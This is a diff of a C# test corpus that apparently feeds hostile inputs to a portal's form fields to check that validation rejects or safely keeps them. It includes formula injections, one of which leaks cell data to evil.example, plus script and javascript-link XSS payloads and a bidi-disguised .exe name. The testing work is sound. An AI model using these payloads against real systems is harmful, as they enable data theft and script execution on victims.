@@ -36,12 +36,31 @@ public static class HostileCorpus
         "+SUM(1+1)*cmd|' /C calc'!A0",
         "-2+3",
         "@SUM(1+1)",
-        "facture\u202Egpj.exe",
         "ad\u200Dmin\u200B\u2060in",
         "Сentre sосial (homoglyphes cyrilliques)",
-        "a\u0000b\u0001c\u0007d\u001Be",
         "Atelier 🧑‍💻 𝕏 👍🏽 \U0001F600",
         "\t=1+1",
+    ];
+
+    /// <summary>
+    /// The classes of #21, each with a value: what the portal refuses at input (UserText: non-characters, controls,
+    /// bidi overrides and isolates) and what it must keep or refuse with a message (a 1,000-character URL, an
+    /// 8,000-character word, a formula, script and Markdown injections). <see cref="EveryFormTests"/> pushes each through
+    /// every text field of every form; <see cref="Payloads"/> holds only values the portal keeps, read back everywhere.
+    /// </summary>
+    public static readonly (string Class, string Value)[] Classes =
+    [
+        ("non-caractère", "outil \ufffe fin"),
+        ("non-caractère FDD0", "outil \ufdd0 fin"),
+        ("contrôle C0", "a\u0001b\u0007c\u001Bd"),
+        ("contrôle C1", "a\u0085b"),
+        ("bidi U+202E", "facture\u202Egpj.exe"),
+        ("isolat bidi", "a\u2066b\u2069c"),
+        ("URL de 1 000 caractères", "https://exemple.org/" + new string('u', 980)),
+        ("mot de 8 000 caractères", new string('m', 8000)),
+        ("formule", "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"clic\")"),
+        ("script", "<script>alert(1)</script><img src=x onerror=alert(2)>"),
+        ("Markdown", "[lien](javascript:alert(3)) ![image](https://ailleurs.example/x.png)"),
     ];
 
     public static string Marker(int n) => $"ZQ{n:00}";
@@ -126,6 +145,16 @@ public static class HostileCorpus
     /// <summary>The id ASP.NET Core gives the input of a field name ("Input.Options[0].Label" → "Input_Options_0__Label").</summary>
     public static string FieldId(string field) => field.Replace('.', '_').Replace('[', '_').Replace(']', '_');
 
+    /// <summary>The message shown next to <paramref name="field"/> (empty when there is none).</summary>
+    public static string FieldMessage(IDocument page, string field)
+    {
+        var id = FieldId(field);
+        var message = page.QuerySelector($"[data-valmsg-for='{field}'], [id='{id}-error'], [id='{id}-erreur']")
+            ?? page.QuerySelector($"[name='{field}']")?.GetAttribute("aria-describedby")?.Split(' ')
+                .Select(d => page.GetElementById(d)).FirstOrDefault(e => e is not null && e.ClassList.Contains("field-error"));
+        return message?.TextContent.Trim() ?? "";
+    }
+
     public static string Excerpt(string s) => s.Length <= 80 ? s : s[..80] + "…";
 
     /// <summary>
@@ -192,11 +221,7 @@ public static class HostileCorpus
             return;
         }
         var page = await response.ReadHtml();
-        var id = FieldId(field);
-        var message = page.QuerySelector($"[data-valmsg-for='{field}'], [id='{id}-error'], [id='{id}-erreur']")
-            ?? page.QuerySelector($"[name='{field}']")?.GetAttribute("aria-describedby")?.Split(' ')
-                .Select(d => page.GetElementById(d)).FirstOrDefault(e => e is not null && e.ClassList.Contains("field-error"));
-        var text = message?.TextContent.Trim() ?? "";
+        var text = FieldMessage(page, field);
         if (text.Length == 0 || !text.Contains("caractères"))
             failures.Add($"{where} : pas de message « … caractères » à côté de {field} (trouvé : « {Excerpt(text)} »)");
         foreach (var (name, value) in kept)
